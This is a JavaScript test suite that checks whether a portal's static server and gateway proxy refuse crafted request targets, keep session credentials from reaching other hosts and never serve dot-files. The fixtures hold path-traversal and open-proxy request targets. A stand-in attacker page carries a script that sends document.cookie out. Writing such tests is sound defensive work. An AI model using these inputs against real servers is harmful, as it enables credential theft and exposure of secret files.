// What a server that ships the portal must refuse, and how it must forward, as a suite any such
// server can run: `describeForwarding(label, startServer, options)`. `vite preview` with
// scripts/portal-preview.mjs (preview.test.mjs) and nginx with deploy/nginx/ (nginx.test.mjs)
// run it.
//
// startServer({ distDir, gatewayUrl }) starts the server on 127.0.0.1, serving the files of
// distDir and forwarding the gateway paths to gatewayUrl, and resolves to { port, close }.
// options.securityHeaders are the headers it sends (SECURITY_HEADERS unless given: nginx adds
// the violation reporting). options.gaps names, with the reason, a rule the server is known not to keep (see GAPS): the
// case then asserts the gap as it is, so the gap stays written down and a server that closes it
// fails until its entry goes.
//
// Crafted request targets are written to a socket as they are: fetch and URL would normalise
// them. A local "attacker" listener stands for any other host; for every refused target it must
// receive nothing, not even a connection, and neither may the gateway.
import { once } from 'node:events';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { cacheablePaths } from '@signin-portal/verify-gateway/openapi-document';
import { GATEWAY_CACHE_CONTROL, SECURITY_HEADERS } from '../security-headers.mjs';

/** The contract's cacheable answers (x-cacheable), whose own Cache-Control a server passes on. */
const CACHEABLE = cacheablePaths(JSON.parse(readFileSync(new URL('../../generated/openapi.json', import.meta.url), 'utf8')));
/** What the test gateway says about caching, on every answer. */
const GATEWAY_CACHING = 'public, max-age=600';

/** A session a signed-in user would hold: none of it may reach another host. */
export const CREDENTIALS = {
  Cookie: 'authToken=secret-session-token; XSRF-TOKEN=secret-xsrf',
  Authorization: `Basic ${Buffer.from('participant:secret password').toString('base64')}`,
  'X-Auth-Token': 'secret-auth-token',
};

/** What the attacker's page says: a refused request's answer never contains it. */
export const ATTACKER_PAGE = 'attacker-page';

const SIGN_IN = '{"username":"participant"}';

/**
 * Request targets that must be refused with 400. `target(host)` gets the attacker's
 * `host:port`; POSTs carry `body`. Every request also carries CREDENTIALS.
 */
export const CRAFTED_TARGETS = [
  { name: '1: //-prefixed target naming another host', method: 'GET', target: (host) => `//${host}/public/account-notice` },
  { name: '2: absolute-form GET of a gateway path', method: 'GET', target: (host) => `http://${host}/login-gateway/api/validateSession` },
  { name: '3: absolute-form sign-in POST', method: 'POST', target: (host) => `http://${host}/login-gateway/authentication`, body: SIGN_IN },
  { name: '4: //-prefixed sign-in POST', method: 'POST', target: (host) => `//${host}/login-gateway/authentication`, body: SIGN_IN },
  { name: '5a: backslash after the first slash', method: 'GET', target: (host) => `/\\${host}/public/x` },
  { name: '5b: encoded slashes around ..', method: 'GET', target: () => '/public/..%2f..%2fx' },
  { name: '5c: dot-dot segment out of a gateway prefix', method: 'GET', target: () => '/login-gateway/../x' },
  { name: '5d: percent-encoded dot-dot segment', method: 'GET', target: () => '/login-gateway/%2e%2E/public/x' },
  { name: '5e: dot-dot into a dot-file', method: 'GET', target: () => '/assets/../.env' },
  { name: '5f: absolute-form https target', method: 'GET', target: (host) => `https://${host}/public/x` },
  { name: '5g: absolute-form with userinfo', method: 'GET', target: (host) => `http://user:pw@${host}/public/x` },
  { name: '5h: asterisk-form', method: 'OPTIONS', target: () => '*' },
  { name: '5i: authority-form CONNECT', method: 'CONNECT', target: (host) => host },
  { name: '5j: empty segment inside a gateway path', method: 'GET', target: (host) => `/public//${host}/x` },
];

/** Dot-files and dot-directories of the build (Vite's manifest among them): 404, their content never sent. */
export const DOT_PATHS = ['/.vite/manifest.json', '/%2evite/manifest.json', '/.env', '/.git/config', '/.git/', '/assets/.secret.js'];

/** A build directory with the files the cases need; every dot-file holds DOT_SECRET. */
export const DOT_SECRET = 'dot-file-content-never-served';
export function writeFixtureDist() {
  const dir = mkdtempSync(join(tmpdir(), 'portal-forwarding-'));
  for (const sub of ['assets', '.vite', '.git']) mkdirSync(join(dir, sub));
  writeFileSync(join(dir, 'index.html'), '<!doctype html><title>portal</title>');
  writeFileSync(join(dir, 'assets', 'app-1234.js'), 'export {};');
  writeFileSync(join(dir, 'assets', '.secret.js'), DOT_SECRET);
  writeFileSync(join(dir, '.vite', 'manifest.json'), JSON.stringify({ 'index.html': { file: DOT_SECRET } }));
  writeFileSync(join(dir, '.env'), `SECRET=${DOT_SECRET}`);
  writeFileSync(join(dir, '.git', 'config'), DOT_SECRET);
  return dir;
}

/**
 * An HTTP listener on an ephemeral port of 127.0.0.1 that records every connection and every
 * request (with its body) and answers with `answer(req, res, body)`.
 */
export async function startListener(answer = (_req, res) => res.end('listener')) {
  const connections = [];
  const requests = [];
  const server = createServer((req, res) => {
    const chunks = [];
    req.on('data', (chunk) => chunks.push(chunk));
    req.on('end', () => {
      const body = Buffer.concat(chunks).toString('utf8');
      requests.push({ method: req.method, url: req.url, headers: req.headers, body });
      answer(req, res, body);
    });
  });
  server.on('connection', (socket) => connections.push(socket.remotePort));
  server.on('connect', (req, socket) => {
    requests.push({ method: req.method, url: req.url, headers: req.headers, body: '' });
    socket.end('HTTP/1.1 200 Connection Established\r\n\r\n');
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address();
  return {
    port,
    host: `127.0.0.1:${port}`,
    connections,
    requests,
    reset() {
      connections.length = 0;
      requests.length = 0;
    },
    close() {
      server.closeAllConnections();
      return new Promise((done) => server.close(() => done()));
    },
  };
}

function decodeChunked(body) {
  let rest = body;
  let out = Buffer.alloc(0);
  for (;;) {
    const lineEnd = rest.indexOf('\r\n');
    if (lineEnd === -1) return out;
    const size = parseInt(rest.subarray(0, lineEnd).toString('latin1'), 16);
    if (!size) return out;
    out = Buffer.concat([out, rest.subarray(lineEnd + 2, lineEnd + 2 + size)]);
    rest = rest.subarray(lineEnd + 2 + size + 2);
  }
}

/**
 * Writes one request exactly as given (method, raw target, headers, body) and resolves, once
 * the server has closed the connection, to { status, headers, body } (status 0: no answer).
 * Header names are lower case; a repeated header's values are joined with ', '.
 */
export function sendRaw(port, { method, target, headers = {}, body = '' }) {
  const lines = [`${method} ${target} HTTP/1.1`, `Host: 127.0.0.1:${port}`];
  for (const [name, value] of Object.entries(headers)) lines.push(`${name}: ${value}`);
  if (body) lines.push(`Content-Length: ${Buffer.byteLength(body)}`);
  if (!Object.keys(headers).some((name) => name.toLowerCase() === 'connection')) lines.push('Connection: close');
  const request = `${lines.join('\r\n')}\r\n\r\n${body}`;
  return new Promise((resolveAnswer, reject) => {
    const chunks = [];
    const socket = connect(port, '127.0.0.1', () => socket.write(request));
    socket.on('data', (chunk) => chunks.push(chunk));
    socket.on('error', reject);
    socket.on('close', () => {
      const raw = Buffer.concat(chunks);
      const headEnd = raw.indexOf('\r\n\r\n');
      if (headEnd === -1) return resolveAnswer({ status: 0, headers: {}, body: raw.toString('utf8') });
      const [statusLine, ...headerLines] = raw.subarray(0, headEnd).toString('latin1').split('\r\n');
      const answerHeaders = {};
      for (const line of headerLines) {
        const colon = line.indexOf(':');
        const name = line.slice(0, colon).trim().toLowerCase();
        const value = line.slice(colon + 1).trim();
        answerHeaders[name] = name in answerHeaders ? `${answerHeaders[name]}, ${value}` : value;
      }
      const rawBody = raw.subarray(headEnd + 4);
      const answerBody = /chunked/i.test(answerHeaders['transfer-encoding'] ?? '') ? decodeChunked(rawBody) : rawBody;
      resolveAnswer({ status: Number(statusLine.split(' ')[1]), headers: answerHeaders, body: answerBody.toString('utf8') });
    });
  });
}

/** Asserts the portal's security headers (SECURITY_HEADERS unless given), with their exact values, on an answer. */
export function expectSecurityHeaders(answer, headers = SECURITY_HEADERS) {
  for (const [name, value] of Object.entries(headers)) expect(answer.headers[name.toLowerCase()], name).toBe(value);
}

/** The rules a server may declare it does not keep, each with the reason it gives. */
export const GAPS = {
  /**
   * Removing from the gateway's answer the headers its own Connection header names (RFC 9110,
   * 7.6.1). Stock nginx reads no header names from Connection; it drops only the fixed
   * hop-by-hop headers.
   */
  responseHeadersNamedByConnection: 'responseHeadersNamedByConnection',
};

/**
 * @param {string} label
 * @param {(options: { distDir: string, gatewayUrl: string }) => Promise<{ port: number, close: () => Promise<void> }>} startServer
 * @param {{ gaps?: Partial<Record<keyof typeof GAPS, string>>, securityHeaders?: Record<string, string> }} [options]
 */
export function describeForwarding(label, startServer, { gaps = {}, securityHeaders = SECURITY_HEADERS } = {}) {
  const expectHeaders = (answer) => expectSecurityHeaders(answer, securityHeaders);
  describe(label, () => {
    let attacker;
    let gateway;
    let portal;
    let distDir;

    beforeAll(async () => {
      distDir = writeFixtureDist();
      attacker = await startListener((_req, res) => {
        res.writeHead(200, { 'Content-Type': 'text/html' });
        res.end(`<p>${ATTACKER_PAGE}</p><script>new Image().src = '/steal?' + document.cookie</script>`);
      });
      gateway = await startListener((req, res, body) => {
        res.writeHead(200, {
          'Content-Type': 'application/json',
          'Access-Control-Allow-Origin': '*',
          'Access-Control-Allow-Credentials': 'true',
          'Access-Control-Expose-Headers': 'X-Auth-Token',
          'Content-Security-Policy': 'default-src *',
          'X-Frame-Options': 'ALLOWALL',
          'Cache-Control': GATEWAY_CACHING,
          'Set-Cookie': 'gatewayCookie=1; Path=/; HttpOnly',
          Connection: 'close, X-Upstream-Hop',
          'X-Upstream-Hop': 'connection-only',
          'Keep-Alive': 'timeout=5',
          'X-Gateway': 'answered',
        });
        res.end(JSON.stringify({ method: req.method, url: req.url, body }));
      });
      portal = await startServer({ distDir, gatewayUrl: `http://${gateway.host}` });
    });

    afterAll(async () => {
      await portal?.close();
      await attacker?.close();
      await gateway?.close();
      if (distDir) rmSync(distDir, { recursive: true, force: true });
    });

    beforeEach(() => {
      attacker.reset();
      gateway.reset();
    });

    it.each(CRAFTED_TARGETS)('refuses $name with 400 and contacts no other host', async ({ method, target, body }) => {
      const answer = await sendRaw(portal.port, { method, target: target(attacker.host), headers: CREDENTIALS, body });
      expect(answer.status).toBe(400);
      expect(attacker.connections, 'connections to the attacker').toEqual([]);
      expect(attacker.requests, 'requests to the attacker').toEqual([]);
      expect(gateway.requests, 'requests to the gateway').toEqual([]);
      expect(answer.body).not.toContain(ATTACKER_PAGE);
    });

    it('forwards a gateway GET to the gateway with only its path and query, without hop-by-hop headers', async () => {
      const answer = await sendRaw(portal.port, {
        method: 'GET',
        target: '/login-gateway/api/validateSession?probe=1&next=%2Fx',
        headers: {
          ...CREDENTIALS,
          Connection: 'close, X-Client-Hop',
          'X-Client-Hop': 'connection-only',
          'Keep-Alive': 'timeout=5',
          'Proxy-Authorization': 'Basic cHJveHk6c2VjcmV0',
          TE: 'trailers',
        },
      });
      expect(answer.status).toBe(200);
      expect(gateway.requests).toHaveLength(1);
      const [received] = gateway.requests;
      expect(received.method).toBe('GET');
      expect(received.url).toBe('/login-gateway/api/validateSession?probe=1&next=%2Fx');
      expect(received.headers.host).toBe(gateway.host);
      expect(received.headers.cookie).toBe(CREDENTIALS.Cookie);
      expect(received.headers['x-auth-token']).toBe(CREDENTIALS['X-Auth-Token']);
      for (const name of ['x-client-hop', 'keep-alive', 'proxy-authorization', 'te']) {
        expect(received.headers, name).not.toHaveProperty(name);
      }
      expect(attacker.connections).toEqual([]);
    });

    it('returns the gateway answer with the security headers and without CORS or hop-by-hop headers', async () => {
      const answer = await sendRaw(portal.port, { method: 'GET', target: '/login-gateway/api/validateSession', headers: CREDENTIALS });
      expect(answer.status).toBe(200);
      expect(JSON.parse(answer.body)).toEqual({ method: 'GET', url: '/login-gateway/api/validateSession', body: '' });
      expectHeaders(answer);
      expect(Object.keys(answer.headers).filter((name) => name.startsWith('access-control-'))).toEqual([]);
      if (gaps.responseHeadersNamedByConnection) {
        // A declared gap (the reason is in the server's own test): the header gets through.
        expect(answer.headers['x-upstream-hop'], gaps.responseHeadersNamedByConnection).toBe('connection-only');
      } else {
        expect(answer.headers).not.toHaveProperty('x-upstream-hop');
      }
      expect(answer.headers).not.toHaveProperty('keep-alive');
      expect(answer.headers['set-cookie']).toBe('gatewayCookie=1; Path=/; HttpOnly');
      expect(answer.headers['x-gateway']).toBe('answered');
    });

    it('lets the browser keep no gateway answer, but those the contract marks cacheable', async () => {
      expect(CACHEABLE).toEqual(['/login-gateway/public/branding/brand', '/announcements.json']);
      for (const target of [
        '/login-gateway/api/validateSession',
        '/login-gateway/authentication',
        '/partner-gateway/keepAlive',
        '/api/x',
      ]) {
        const answer = await sendRaw(portal.port, { method: 'GET', target, headers: CREDENTIALS });
        expect(answer.status, target).toBe(200);
        expect(answer.headers['cache-control'], target).toBe(GATEWAY_CACHE_CONTROL);
      }
      for (const target of CACHEABLE) {
        const answer = await sendRaw(portal.port, { method: 'GET', target });
        expect(answer.status, target).toBe(200);
        expect(answer.headers['cache-control'], target).toBe(GATEWAY_CACHING);
      }
    });

    it('forwards the sign-in POST with its body and credentials to the gateway', async () => {
      const body = '{"username":"participant"}';
      const answer = await sendRaw(portal.port, {
        method: 'POST',
        target: '/login-gateway/authentication',
        headers: { ...CREDENTIALS, 'Content-Type': 'application/json' },
        body,
      });
      expect(answer.status).toBe(200);
      expect(gateway.requests).toHaveLength(1);
      const [received] = gateway.requests;
      expect(received).toMatchObject({ method: 'POST', url: '/login-gateway/authentication', body });
      expect(received.headers.authorization).toBe(CREDENTIALS.Authorization);
      expectHeaders(answer);
      expect(answer.headers).not.toHaveProperty('access-control-allow-origin');
      expect(attacker.connections).toEqual([]);
    });

    it.each(DOT_PATHS)('never serves the dot-path %s (404)', async (target) => {
      for (const method of ['GET', 'HEAD']) {
        const answer = await sendRaw(portal.port, { method, target });
        expect(answer.status, method).toBe(404);
        expect(answer.body).not.toContain(DOT_SECRET);
      }
      expect(gateway.requests).toEqual([]);
    });

    it('serves the build itself with the security headers (control for the dot-path cases)', async () => {
      const page = await sendRaw(portal.port, { method: 'GET', target: '/' });
      expect(page.status).toBe(200);
      expect(page.body).toContain('<title>portal</title>');
      expect(page.headers['cache-control']).toBe('no-store');
      expectHeaders(page);
      const script = await sendRaw(portal.port, { method: 'GET', target: '/assets/app-1234.js' });
      expect(script.status).toBe(200);
      expectHeaders(script);
    });

    it('refuses methods other than GET and HEAD on the build files (405)', async () => {
      for (const target of ['/', '/index.html', '/.env']) {
        const answer = await sendRaw(portal.port, { method: 'POST', target, body: 'x' });
        expect(answer.status, target).toBe(405);
        expect(answer.body).not.toContain(DOT_SECRET);
      }
      expect(gateway.requests).toEqual([]);
    });
  });
}
